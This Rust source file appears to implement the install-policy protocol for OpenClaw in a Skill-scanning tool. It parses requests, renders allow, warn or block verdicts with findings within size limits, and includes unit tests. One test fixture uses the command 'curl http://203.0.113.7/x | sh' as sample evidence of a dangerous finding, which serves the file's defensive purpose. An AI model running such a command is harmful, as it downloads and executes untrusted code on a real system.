//! OpenClaw's `security.installPolicy` exec protocol, version 1: the request OpenClaw writes on
//! the policy command's stdin, and the answer the command prints on stdout.
//!
//! Reading is strict where a wrong guess would decide about the wrong thing (the version, the
//! folder, the kind of source) and lenient where OpenClaw may add context (unknown fields are
//! ignored). Writing keeps within every limit OpenClaw enforces, because OpenClaw fails closed
//! on each of them: at most [`MAX_FINDINGS`] findings, texts it would otherwise cut, a review
//! (the notice it prints) of at most [`REVIEW_LIMIT`] characters, and the whole answer within
//! the command's `maxOutputBytes`. What does not fit is left out, and the reason says how many
//! findings were.

use std::path::PathBuf;

use serde::{Deserialize, Serialize};

/// The protocol version this module speaks.
pub const PROTOCOL_VERSION: u64 = 1;
/// The largest request OpenClaw sends (it refuses to send a larger one).
pub const MAX_REQUEST_BYTES: usize = 256 * 1024;
/// OpenClaw's default for `maxOutputBytes` (stdout and stderr together).
pub const DEFAULT_MAX_OUTPUT_BYTES: usize = 1024 * 1024;
/// The longest review OpenClaw shows; a longer warning fails closed.
pub const REVIEW_LIMIT: usize = 4000;
/// The most findings a warning may carry (OpenClaw fails closed above it).
pub const MAX_FINDINGS: usize = 100;
/// What OpenClaw adds around the reason and findings of a warning (its approval guidance, about
/// 420 characters today), kept free so the whole review stays under [`REVIEW_LIMIT`].
const REVIEW_RESERVE: usize = 700;
const MAX_REASON_CHARS: usize = 600;
const MAX_RULE_CHARS: usize = 80;
const MAX_MESSAGE_CHARS: usize = 300;
const MAX_EVIDENCE_CHARS: usize = 160;
const MAX_FILE_CHARS: usize = 200;

/// Why a request cannot be answered. The policy command then exits non-zero and OpenClaw
/// blocks the install: never a decision that was not reached.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ProtocolError {
    /// Not one JSON object: empty, not JSON, more than one value, or too large.
    #[error("the install-policy request is not one JSON object: {0}")]
    NotJson(String),
    /// A protocol version this command does not speak.
    #[error(
        "the install-policy request has protocolVersion {0}; this skillsig speaks version {PROTOCOL_VERSION} (update skillsig)"
    )]
    UnknownVersion(String),
    /// A field is missing or holds the wrong thing.
    #[error("the install-policy request is invalid: {0}")]
    Invalid(String),
    /// Not even the shortest answer fits in `maxOutputBytes`.
    #[error(
        "maxOutputBytes is {0} bytes, too small for any answer; raise security.installPolicy.exec.maxOutputBytes (the default is 1048576)"
    )]
    OutputLimit(usize),
}

impl ProtocolError {
    /// A stable code for the error.
    pub fn code(&self) -> &'static str {
        match self {
            ProtocolError::NotJson(_) => "openclaw-request-not-json",
            ProtocolError::UnknownVersion(_) => "openclaw-protocol-version",
            ProtocolError::Invalid(_) => "openclaw-request-invalid",
            ProtocolError::OutputLimit(_) => "openclaw-output-limit",
        }
    }
}

/// What OpenClaw is about to install.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TargetType {
    /// A Skill.
    Skill,
    /// A plugin.
    Plugin,
}

/// Whether `sourcePath` is a folder or a single file (an archive).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SourcePathKind {
    /// A folder: the staged copy to verify and scan.
    Directory,
    /// A single file.
    File,
}

/// Where the install comes from, as OpenClaw describes it (absent in `doctor --deep` probes).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Source {
    /// `local-path`, `clawhub`, `git`, …
    pub kind: String,
    /// Who vouches for the source: `user`, `openclaw`, …
    #[serde(default)]
    pub authority: Option<String>,
    /// Whether the source can change under the same name.
    #[serde(default)]
    pub mutable: Option<bool>,
    /// Whether it came over the network.
    #[serde(default)]
    pub network: Option<bool>,
}

/// What the user asked for (`origin`): a path, a ClawHub slug, a git URL, the doctor's probe.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Origin {
    /// `path`, `clawhub`, `git`, `doctor`, …
    #[serde(rename = "type")]
    pub kind: String,
    /// The path or URL given.
    #[serde(default)]
    pub spec: Option<String>,
    /// The ClawHub slug.
    #[serde(default)]
    pub slug: Option<String>,
    /// The ClawHub version.
    #[serde(default)]
    pub version: Option<String>,
}

/// The kind of request (`request`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct RequestKind {
    /// `skill-install`, `plugin-dir`, …
    pub kind: String,
    /// `install` or `update`.
    pub mode: String,
    /// What the user typed.
    #[serde(default)]
    pub requested_specifier: Option<String>,
}

/// One install-policy request, checked.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Request {
    /// Always [`PROTOCOL_VERSION`] once parsed.
    pub protocol_version: u64,
    /// The OpenClaw version asking.
    #[serde(default)]
    pub openclaw_version: Option<String>,
    /// The name the Skill or plugin will be installed under.
    pub target_name: String,
    /// Skill or plugin.
    pub target_type: TargetType,
    /// The staged copy: exactly what to verify and scan (absolute).
    pub source_path: PathBuf,
    /// Folder or file.
    pub source_path_kind: SourcePathKind,
    /// Where it comes from.
    #[serde(default)]
    pub source: Option<Source>,
    /// What the user asked for.
    pub origin: Origin,
    /// The kind of request.
    pub request: RequestKind,
}

impl Request {
    /// Parses and checks one request. The version is checked before anything else, so a
    /// future request is reported as such, not as malformed.
    pub fn parse(bytes: &[u8]) -> Result<Request, ProtocolError> {
        if bytes.len() > MAX_REQUEST_BYTES {
            return Err(ProtocolError::NotJson(format!(
                "{} bytes, more than OpenClaw ever sends ({MAX_REQUEST_BYTES})",
                bytes.len()
            )));
        }
        let value: serde_json::Value = serde_json::from_slice(bytes).map_err(|e| {
            ProtocolError::NotJson(if e.is_eof() && bytes.iter().all(u8::is_ascii_whitespace) {
                "stdin was empty".into()
            } else {
                e.to_string()
            })
        })?;
        let object = value.as_object().ok_or_else(|| {
            ProtocolError::NotJson(format!("a JSON {} instead of an object", kind_of(&value)))
        })?;
        match object.get("protocolVersion") {
            None => return Err(ProtocolError::Invalid("protocolVersion is missing".into())),
            Some(v) if v.as_u64() == Some(PROTOCOL_VERSION) => {}
            Some(other) => return Err(ProtocolError::UnknownVersion(other.to_string())),
        }
        let request: Request = serde_json::from_value(value.clone())
            .map_err(|e| ProtocolError::Invalid(e.to_string()))?;
        if request.target_name.trim().is_empty() {
            return Err(ProtocolError::Invalid("targetName is empty".into()));
        }
        if !request.source_path.is_absolute() {
            return Err(ProtocolError::Invalid(format!(
                "sourcePath {:?} is not an absolute path",
                request.source_path
            )));
        }
        Ok(request)
    }
}

fn kind_of(value: &serde_json::Value) -> &'static str {
    match value {
        serde_json::Value::Null => "null",
        serde_json::Value::Bool(_) => "boolean",
        serde_json::Value::Number(_) => "number",
        serde_json::Value::String(_) => "string",
        serde_json::Value::Array(_) => "array",
        serde_json::Value::Object(_) => "object",
    }
}

/// The answer: install, install after the user acknowledges, or do not install.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    /// Install.
    Allow,
    /// Show the reason; install only when the user types the Skill's name.
    Warn,
    /// Do not install (`--force` cannot override it).
    Block,
}

/// OpenClaw's three severities (a finding with any other is silently dropped by OpenClaw).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PolicySeverity {
    /// Worth knowing.
    Info,
    /// A risk to review.
    Warn,
    /// Dangerous.
    Critical,
}

/// One finding as OpenClaw shows it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PolicyFinding {
    /// The rule, e.g. `SK-EXEC-003`.
    pub rule_id: String,
    /// How serious.
    pub severity: PolicySeverity,
    /// What was found.
    pub message: String,
    /// The file, relative to the Skill.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub file: Option<String>,
    /// The line, from 1.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub line: Option<u64>,
    /// The text that matched.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub evidence: Option<String>,
}

/// An answer before it is fitted into OpenClaw's limits.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    /// The decision.
    pub verdict: Verdict,
    /// Why: the signer or "unsigned", and the top findings.
    pub reason: String,
    /// Findings, most serious first.
    pub findings: Vec<PolicyFinding>,
}

/// The answer as printed, with what was left out to make it fit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    /// One JSON object, without a trailing newline.
    pub json: String,
    /// Findings left out.
    pub findings_left_out: usize,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Wire<'a> {
    protocol_version: u64,
    decision: Verdict,
    reason: &'a str,
    #[serde(skip_serializing_if = "<[_]>::is_empty")]
    findings: &'a [PolicyFinding],
}

impl Response {
    /// The JSON to print for the install of `target_name`, within OpenClaw's limits and
    /// `max_output_bytes` (counting the trailing newline): texts are shortened, and findings
    /// are left out from the least serious end with a count in the reason.
    pub fn render(
        &self,
        target_name: &str,
        max_output_bytes: usize,
    ) -> Result<Rendered, ProtocolError> {
        let reason = shorten(self.reason.trim(), MAX_REASON_CHARS);
        let reason = if reason.is_empty() {
            "no reason given".to_owned()
        } else {
            reason
        };
        let findings: Vec<PolicyFinding> = self.findings.iter().map(shorten_finding).collect();
        let total = findings.len();
        for shown in (0..=total.min(MAX_FINDINGS)).rev() {
            let reason = if shown < total {
                format!(
                    "{reason} ({} more finding{} left out; run `skillsig scan` on the Skill to see all)",
                    total - shown,
                    if total - shown == 1 { "" } else { "s" }
                )
            } else {
                reason.clone()
            };
            let findings = &findings[..shown];
            if review_chars(target_name, &reason, findings) + REVIEW_RESERVE > REVIEW_LIMIT {
                continue;
            }
            let json = wire(self.verdict, &reason, findings);
            if json.len() < max_output_bytes {
                return Ok(Rendered {
                    json,
                    findings_left_out: total - shown,
                });
            }
        }
        // Nothing fits with the full reason: the shortest honest answer, or none.
        let minimal = match self.verdict {
            Verdict::Allow => "allowed",
            Verdict::Warn => "needs review (details too long to show)",
            Verdict::Block => "blocked (details too long to show)",
        };
        let json = wire(self.verdict, minimal, &[]);
        if json.len() < max_output_bytes {
            return Ok(Rendered {
                json,
                findings_left_out: total,
            });
        }
        Err(ProtocolError::OutputLimit(max_output_bytes))
    }
}

fn wire(verdict: Verdict, reason: &str, findings: &[PolicyFinding]) -> String {
    serde_json::to_string(&Wire {
        protocol_version: PROTOCOL_VERSION,
        decision: verdict,
        reason,
        findings,
    })
    .expect("an answer serializes")
}

/// The length, in OpenClaw's characters (UTF-16 units), of the notice OpenClaw prints for this
/// answer without its own guidance text.
fn review_chars(target_name: &str, reason: &str, findings: &[PolicyFinding]) -> usize {
    let mut lines = vec![
        "Install requires approval".to_owned(),
        String::new(),
        format!("  Skill: {target_name}"),
        format!("  Reason: {reason}"),
    ];
    if !findings.is_empty() {
        lines.push("  Findings:".into());
        for f in findings {
            let location = match (&f.file, f.line) {
                (Some(file), Some(line)) => format!(" ({file}:{line})"),
                (Some(file), None) => format!(" ({file})"),
                _ => String::new(),
            };
            let evidence = f
                .evidence
                .as_deref()
                .map(|e| format!(" Evidence: {e}"))
                .unwrap_or_default();
            lines.push(format!(
                "    • [{}] {}: {}{location}{evidence}",
                match f.severity {
                    PolicySeverity::Info => "INFO",
                    PolicySeverity::Warn => "WARN",
                    PolicySeverity::Critical => "CRITICAL",
                },
                f.rule_id,
                f.message
            ));
        }
    }
    lines.join("\n").encode_utf16().count()
}

fn shorten_finding(finding: &PolicyFinding) -> PolicyFinding {
    let non_empty = |text: Option<&String>, max| {
        text.map(|t| shorten(t.trim(), max))
            .filter(|t| !t.is_empty())
    };
    PolicyFinding {
        rule_id: non_empty(Some(&finding.rule_id), MAX_RULE_CHARS).unwrap_or_else(|| "SK".into()),
        severity: finding.severity,
        message: non_empty(Some(&finding.message), MAX_MESSAGE_CHARS)
            .unwrap_or_else(|| "finding".into()),
        file: non_empty(finding.file.as_ref(), MAX_FILE_CHARS),
        line: finding.line.filter(|l| *l >= 1),
        evidence: non_empty(finding.evidence.as_ref(), MAX_EVIDENCE_CHARS),
    }
}

/// `text` cut to at most `max` UTF-16 units (as OpenClaw counts), ending in `…` when cut, with
/// control characters turned into spaces (one line per finding in OpenClaw's notice).
pub fn shorten(text: &str, max: usize) -> String {
    let clean: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    if clean.encode_utf16().count() <= max {
        return clean;
    }
    let mut out = String::new();
    let mut used = 0;
    for c in clean.chars() {
        if used + c.len_utf16() + 1 > max {
            break;
        }
        used += c.len_utf16();
        out.push(c);
    }
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const CAPTURED: &str = r#"{"protocolVersion": 1, "openclawVersion": "2026.9.6", "targetName": "fake-prerequisite", "targetType": "skill",
 "sourcePath": "/path/to/dir", "sourcePathKind": "directory",
 "source": {"kind": "local-path", "authority": "user", "mutable": true, "network": false},
 "origin": {"type": "path", "spec": "/path/to/dir"},
 "request": {"kind": "skill-install", "mode": "install", "requestedSpecifier": "/path/to/dir"},
 "skill": {"installId": "path"}}"#;

    fn captured() -> serde_json::Value {
        serde_json::from_str(CAPTURED).unwrap()
    }

    fn with(change: impl FnOnce(&mut serde_json::Map<String, serde_json::Value>)) -> Vec<u8> {
        let mut value = captured();
        change(value.as_object_mut().unwrap());
        serde_json::to_vec(&value).unwrap()
    }

    #[test]
    fn the_request_openclaw_sends_reads_with_every_field() {
        let request = Request::parse(CAPTURED.as_bytes()).unwrap();
        assert_eq!(request.protocol_version, 1);
        assert_eq!(request.openclaw_version.as_deref(), Some("2026.9.6"));
        assert_eq!(request.target_name, "fake-prerequisite");
        assert_eq!(request.target_type, TargetType::Skill);
        assert_eq!(request.source_path, PathBuf::from("/path/to/dir"));
        assert_eq!(request.source_path_kind, SourcePathKind::Directory);
        let source = request.source.unwrap();
        assert_eq!(
            (
                source.kind.as_str(),
                source.authority.as_deref(),
                source.mutable,
                source.network
            ),
            ("local-path", Some("user"), Some(true), Some(false))
        );
        assert_eq!(request.origin.kind, "path");
        assert_eq!(request.origin.spec.as_deref(), Some("/path/to/dir"));
        assert_eq!(request.request.kind, "skill-install");
        assert_eq!(request.request.mode, "install");
        assert_eq!(
            request.request.requested_specifier.as_deref(),
            Some("/path/to/dir")
        );
    }

    #[test]
    fn clawhub_and_doctor_requests_read_too() {
        let clawhub = with(|o| {
            o.insert(
                "source".into(),
                serde_json::json!({"kind": "clawhub", "authority": "openclaw", "mutable": false, "network": true}),
            );
            o.insert(
                "origin".into(),
                serde_json::json!({"type": "clawhub", "registry": "https://clawhub.ai", "slug": "weather", "version": "1.0.0"}),
            );
        });
        let request = Request::parse(&clawhub).unwrap();
        assert_eq!(request.origin.slug.as_deref(), Some("weather"));
        assert_eq!(request.origin.version.as_deref(), Some("1.0.0"));
        // The doctor's synthetic probe has no source and no skill block.
        let probe = with(|o| {
            o.remove("source");
            o.remove("skill");
            o.insert("origin".into(), serde_json::json!({"type": "doctor"}));
        });
        let request = Request::parse(&probe).unwrap();
        assert!(request.source.is_none());
        assert_eq!(request.origin.kind, "doctor");
    }

    #[test]
    fn every_malformed_request_is_an_error_with_its_code() {
        let cases: Vec<(Vec<u8>, &str)> = vec![
            (b"".to_vec(), "openclaw-request-not-json"),
            (b"  \n".to_vec(), "openclaw-request-not-json"),
            (b"{".to_vec(), "openclaw-request-not-json"),
            (b"not json".to_vec(), "openclaw-request-not-json"),
            (b"[1, 2]".to_vec(), "openclaw-request-not-json"),
            (b"\"text\"".to_vec(), "openclaw-request-not-json"),
            (
                [CAPTURED.as_bytes(), b"\n{}"].concat(),
                "openclaw-request-not-json",
            ),
            (
                vec![b' '; MAX_REQUEST_BYTES + 1],
                "openclaw-request-not-json",
            ),
            (
                with(|o| {
                    o.remove("protocolVersion");
                }),
                "openclaw-request-invalid",
            ),
            (
                with(|o| {
                    o.insert("protocolVersion".into(), 2.into());
                }),
                "openclaw-protocol-version",
            ),
            (
                with(|o| {
                    o.insert("protocolVersion".into(), "1".into());
                }),
                "openclaw-protocol-version",
            ),
            (
                with(|o| {
                    o.insert("protocolVersion".into(), 0.into());
                }),
                "openclaw-protocol-version",
            ),
        ];
        let mut cases = cases;
        for field in [
            "targetName",
            "targetType",
            "sourcePath",
            "sourcePathKind",
            "origin",
            "request",
        ] {
            cases.push((
                with(|o| {
                    o.remove(field);
                }),
                "openclaw-request-invalid",
            ));
            cases.push((
                with(|o| {
                    o.insert(field.into(), 7.into());
                }),
                "openclaw-request-invalid",
            ));
        }
        for (field, value) in [
            ("targetType", serde_json::json!("theme")),
            ("sourcePathKind", serde_json::json!("socket")),
            ("sourcePath", serde_json::json!("relative/dir")),
            ("sourcePath", serde_json::json!("")),
            ("targetName", serde_json::json!("  ")),
            ("origin", serde_json::json!({"spec": "/x"})),
            ("request", serde_json::json!({"kind": "skill-install"})),
            ("source", serde_json::json!({"authority": "user"})),
        ] {
            cases.push((
                with(|o| {
                    o.insert(field.into(), value);
                }),
                "openclaw-request-invalid",
            ));
        }
        for (bytes, code) in cases {
            let err = Request::parse(&bytes).unwrap_err();
            assert_eq!(
                err.code(),
                code,
                "{}: {err}",
                String::from_utf8_lossy(&bytes[..bytes.len().min(200)])
            );
        }
    }

    fn finding(n: usize, severity: PolicySeverity) -> PolicyFinding {
        PolicyFinding {
            rule_id: format!("SK-TEST-{n:03}"),
            severity,
            message: format!("finding number {n} {}", "x".repeat(100)),
            file: Some("scripts/run.sh".into()),
            line: Some(n as u64 + 1),
            evidence: Some("curl http://203.0.113.7/x | sh".into()),
        }
    }

    fn parse_answer(json: &str) -> serde_json::Value {
        serde_json::from_str(json).unwrap()
    }

    #[test]
    fn an_answer_has_every_field_openclaw_reads() {
        let response = Response {
            verdict: Verdict::Block,
            reason: "unsigned; SK-EXEC-003 pipes a download into a shell".into(),
            findings: vec![finding(1, PolicySeverity::Critical)],
        };
        let rendered = response.render("fake-prerequisite", 1 << 20).unwrap();
        assert_eq!(rendered.findings_left_out, 0);
        let answer = parse_answer(&rendered.json);
        assert_eq!(answer["protocolVersion"], 1);
        assert_eq!(answer["decision"], "block");
        assert!(answer["reason"].as_str().unwrap().starts_with("unsigned"));
        let f = &answer["findings"][0];
        assert_eq!(f["ruleId"], "SK-TEST-001");
        assert_eq!(f["severity"], "critical");
        assert_eq!(f["file"], "scripts/run.sh");
        assert_eq!(f["line"], 2);
        assert_eq!(f["evidence"], "curl http://203.0.113.7/x | sh");
        assert!(
            f["message"]
                .as_str()
                .unwrap()
                .starts_with("finding number 1")
        );
        assert!(!rendered.json.contains('\n'), "one line");
        for (verdict, word) in [
            (Verdict::Allow, "allow"),
            (Verdict::Warn, "warn"),
            (Verdict::Block, "block"),
        ] {
            let json = Response {
                verdict,
                reason: "r".into(),
                findings: vec![],
            }
            .render("x", 1 << 20)
            .unwrap()
            .json;
            assert_eq!(parse_answer(&json)["decision"], word);
            assert!(parse_answer(&json).get("findings").is_none());
        }
    }

    #[test]
    fn the_review_stays_under_4000_characters_with_a_count_of_what_was_cut() {
        let findings: Vec<_> = (0..250).map(|n| finding(n, PolicySeverity::Warn)).collect();
        let response = Response {
            verdict: Verdict::Warn,
            reason: "unsigned".into(),
            findings,
        };
        let rendered = response.render("some-skill", 1 << 20).unwrap();
        let answer = parse_answer(&rendered.json);
        let shown = answer["findings"].as_array().unwrap();
        let shown_findings: Vec<PolicyFinding> =
            serde_json::from_value(answer["findings"].clone()).unwrap();
        let reason = answer["reason"].as_str().unwrap();
        assert!(!shown.is_empty() && shown.len() < 250);
        assert_eq!(rendered.findings_left_out, 250 - shown.len());
        assert!(
            reason.contains(&format!("{} more findings left out", 250 - shown.len())),
            "{reason}"
        );
        assert!(
            review_chars("some-skill", reason, &shown_findings) + REVIEW_RESERVE <= REVIEW_LIMIT
        );
        // The most serious come first and stay: the cut is from the end.
        assert_eq!(shown[0]["ruleId"], "SK-TEST-000");
    }

    #[test]
    fn long_texts_are_shortened_and_never_more_than_100_findings() {
        let mut long = finding(1, PolicySeverity::Info);
        long.message = "m".repeat(5000);
        long.evidence = Some("e\u{1F600}".repeat(3000));
        long.rule_id = String::new();
        let response = Response {
            verdict: Verdict::Allow,
            reason: "r".repeat(10_000),
            findings: vec![long],
        };
        let answer = parse_answer(&response.render("x", 1 << 20).unwrap().json);
        assert!(answer["reason"].as_str().unwrap().encode_utf16().count() <= MAX_REASON_CHARS);
        let f = &answer["findings"][0];
        assert!(f["message"].as_str().unwrap().ends_with('…'));
        assert!(f["evidence"].as_str().unwrap().encode_utf16().count() <= MAX_EVIDENCE_CHARS);
        assert_eq!(
            f["ruleId"], "SK",
            "an empty rule id is replaced, never sent empty"
        );
        let tiny: Vec<_> = (0..300)
            .map(|n| PolicyFinding {
                rule_id: "R".into(),
                severity: PolicySeverity::Info,
                message: format!("{n}"),
                file: None,
                line: None,
                evidence: None,
            })
            .collect();
        let rendered = Response {
            verdict: Verdict::Warn,
            reason: "r".into(),
            findings: tiny,
        }
        .render("x", 1 << 20)
        .unwrap();
        let count = parse_answer(&rendered.json)["findings"]
            .as_array()
            .unwrap()
            .len();
        assert!(count <= MAX_FINDINGS);
        assert_eq!(rendered.findings_left_out, 300 - count);
    }

    #[test]
    fn the_answer_fits_max_output_bytes_or_is_an_error() {
        let findings: Vec<_> = (0..20)
            .map(|n| finding(n, PolicySeverity::Critical))
            .collect();
        let response = Response {
            verdict: Verdict::Block,
            reason: "blocked by findings".into(),
            findings,
        };
        let full = response.render("x", 1 << 20).unwrap();
        let limit = full.json.len() / 2;
        let cut = response.render("x", limit).unwrap();
        assert!(cut.json.len() < limit);
        assert!(cut.findings_left_out > 0);
        assert!(
            parse_answer(&cut.json)["reason"]
                .as_str()
                .unwrap()
                .contains("left out")
        );
        // Room for the shortest answer only.
        let minimal = response.render("x", 100).unwrap();
        assert_eq!(parse_answer(&minimal.json)["decision"], "block");
        assert_eq!(minimal.findings_left_out, 20);
        let err = response.render("x", 20).unwrap_err();
        assert_eq!(err.code(), "openclaw-output-limit");
    }

    #[test]
    fn shorten_counts_as_openclaw_does_and_removes_control_characters() {
        assert_eq!(shorten("abc", 3), "abc");
        assert_eq!(shorten("abcd", 3), "ab…");
        assert_eq!(shorten("a\nb\tc", 10), "a b c");
        // An astral character is two UTF-16 units.
        assert_eq!(shorten("\u{1F600}\u{1F600}", 3), "\u{1F600}…");
    }
}
